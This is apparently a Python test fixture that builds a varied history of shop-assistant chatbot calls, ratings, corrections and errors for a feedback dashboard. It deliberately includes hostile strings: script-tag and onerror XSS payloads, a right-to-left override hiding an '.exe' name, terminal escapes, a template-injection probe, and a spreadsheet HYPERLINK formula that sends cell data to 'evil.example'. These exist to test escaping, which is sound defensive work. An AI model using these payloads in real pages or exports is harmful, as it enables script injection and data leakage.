"""A varied little history: several users, models, comments, corrections, errors, long and hostile texts."""

from __future__ import annotations

from dataclasses import dataclass

from tests.support.dashboard.history import DAY, MINUTE, SECOND, History

HOSTILE_SESSION = 'weird/session id "quoted" <b>ünïcode</b> 100% #1?x=\u202eevil'
HOSTILE_USER = "o'brien/<script>alert(1)</script>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "click")'
HOSTILE_TEXT = (
    "<script>document.title='owned'</script><img src=x onerror=alert(1)>\x1b[31mred\x1b[0m \x00nul "
    "\u202egnp.exe\u202c {{ 7*7 }} </blockquote></article>"
)
LONG_ANSWER = "Here is the whole policy, clause by clause. " * 900
SYSTEM = "You are the shop's assistant. Answer briefly, from the manual only, and never promise a refund."


@dataclass(frozen=True)
class Sample:
    """The history and what is known of it."""

    history: History
    calls: int
    rated_calls: int
    ratings: int


def make_sample(now: int) -> Sample:
    """Ten sessions over the last days, twenty-odd calls, about as many ratings."""
    history = History()
    calls = rated = 0  # a rating of a whole session and one that waits for its trace rate no call
    refund = history.call(
        "Where is my refund for order A-1009?",
        "Refunds are paid back within 14 days of the parcel's return. Yours was booked in on Monday, so it should "
        "reach your card by the end of next week.",
        at=now - 2 * DAY,
        session="conversation-1009",
        user="maria",
        system=SYSTEM,
        seconds=2.1,
        tokens=(412, 57),
        version="v3",
    )
    history.rate(
        refund,
        "negative",
        at=now - 2 * DAY + MINUTE,
        rater="maria",
        comment="It ignored the date I gave and quoted the general policy.",
        reasons=("not accurate", "did not follow instructions"),
        correction="The refund for A-1009 was paid on 3 May; it is on your statement of 5 May.",
    )
    looked = history.call(
        "But the money was taken twice!",
        "",
        at=now - 2 * DAY + 2 * MINUTE,
        session="conversation-1009",
        user="maria",
        tool="look_up_payments",
        seconds=0.9,
        tokens=(498, 22),
    )
    again = history.call(
        "But the money was taken twice!",
        "You are right: two payments of 39.90 EUR were taken on 28 April. I have marked the second one for refund.",
        at=now - 2 * DAY + 2 * MINUTE + 3 * SECOND,
        session="conversation-1009",
        user="maria",
        seconds=1.7,
        tokens=(640, 48),
    )
    history.rate(again, "positive", at=now - 2 * DAY + 4 * MINUTE, rater="maria")
    history.rate(
        again,
        "positive",
        at=now - 2 * DAY + 5 * MINUTE,
        rater="maria",
        scope="session",
        name="stars",
        value=4.0,
        score_range=(1.0, 5.0),
        comment="Got there in the end.",
    )
    calls, rated = calls + 3, rated + 2
    assert looked.session == again.session
    broken = history.call(
        "Summarise my last five orders",
        "",
        at=now - DAY,
        session="conversation-2044",
        user="tariq",
        model="claude-sonnet-4",
        error="RateLimitError",
        seconds=30.2,
    )
    history.rate(broken, "negative", at=now - DAY + MINUTE, rater="tariq", reasons=("no answer",))
    fine = history.call(
        "Summarise my last five orders",
        "1. Kettle, delivered 2 May\n2. Toaster, delivered 4 May\n3. Mug set, on its way\n4. Lamp, returned\n5. Rug, "
        "delivered 11 May",
        at=now - DAY + 3 * MINUTE,
        session="conversation-2044",
        user="tariq",
        model="claude-sonnet-4",
        seconds=3.4,
        tokens=(1210, 88),
    )
    history.rate(fine, "negative", at=now - DAY + 4 * MINUTE, rater="tariq", comment="wrong thumb")
    history.rate(fine, "positive", at=now - DAY + 5 * MINUTE, rater="tariq", comment="Perfect list, thank you!")
    calls, rated = calls + 2, rated + 2
    policy = history.call(
        "What is the full return policy?",
        LONG_ANSWER,
        at=now - 5 * DAY,
        session="conversation-0077",
        user="wen",
        model="gpt-4o",
        seconds=14.8,
        tokens=(320, 9100),
    )
    history.rate(
        policy,
        "neutral",
        at=now - 5 * DAY + MINUTE,
        rater="wen",
        name="stars",
        value=3.0,
        score_range=(1.0, 5.0),
        comment="Correct but far too long. I only wanted to know whether opened items can be returned.",
    )
    attack = history.call(
        HOSTILE_TEXT, HOSTILE_TEXT, at=now - 3 * DAY, session=HOSTILE_SESSION, user=HOSTILE_USER, system=HOSTILE_TEXT
    )
    history.rate(
        attack,
        "negative",
        at=now - 3 * DAY + MINUTE,
        rater=HOSTILE_USER,
        comment=HOSTILE_TEXT,
        correction=HOSTILE_TEXT,
        reasons=("<i>reason</i>",),
    )
    calls, rated = calls + 2, rated + 2
    secret = history.call("", "", at=now - 4 * DAY, session="conversation-3100", user="ana", captured=False)
    history.rate(secret, "on topic", at=now - 4 * DAY + MINUTE, rater="ana", name="topic")
    calls, rated = calls + 1, rated + 1
    for number in range(12):
        call = history.call(
            f"Question {number}: how long is the warranty on item {number * 7}?",
            f"Two years from the day of purchase, item {number * 7} included.",
            at=now - (number % 6) * DAY - number * MINUTE,
            session=f"conversation-4{number % 4}",
            user=f"user-{number % 3}",
            model=("gpt-4o-mini", "gpt-4o", "mistral-small")[number % 3],
            service=("", "help-centre")[number % 2],
            seconds=0.6 + number / 4,
        )
        calls += 1
        if number % 3 != 2:
            rated += 1
            history.rate(
                call,
                "positive" if number % 4 else "negative",
                at=now - (number % 6) * DAY,
                rater=f"user-{number % 3}",
                service=("", "help-centre")[number % 2],
                scope="trace" if number == 7 else "span",
                comment=FORMULA if number == 3 else "",
            )
    for number in range(45):  # more than a page of everything, five at the very same nanosecond
        at = now - 12 * DAY - number // 5 * MINUTE
        call = history.call(
            f"Is item {number} in stock?", "Yes.", at=at, session=f"stock-{number}", user=f"buyer-{number}"
        )
        history.rate(call, "positive", at=at + 2 * SECOND, rater=f"buyer-{number}")
        calls, rated = calls + 1, rated + 1
    history.call("Do you ship to Norway?", "Yes, within five working days.", at=now - 2 * DAY)  # no session, no rating
    alone = history.call("And to Iceland?", "Not yet.", at=now - 2 * DAY + MINUTE)
    history.rate(alone, "negative", at=now - 2 * DAY + 2 * MINUTE, comment="Would be nice to know why.")
    calls, rated = calls + 2, rated + 1
    lost = history.never_arriving_call("conversation-lost")
    history.rate(lost, "negative", at=now - 10 * MINUTE, rater="maria", comment="No trace of this one yet.")
    return Sample(history, calls, rated, ratings=rated + 2)
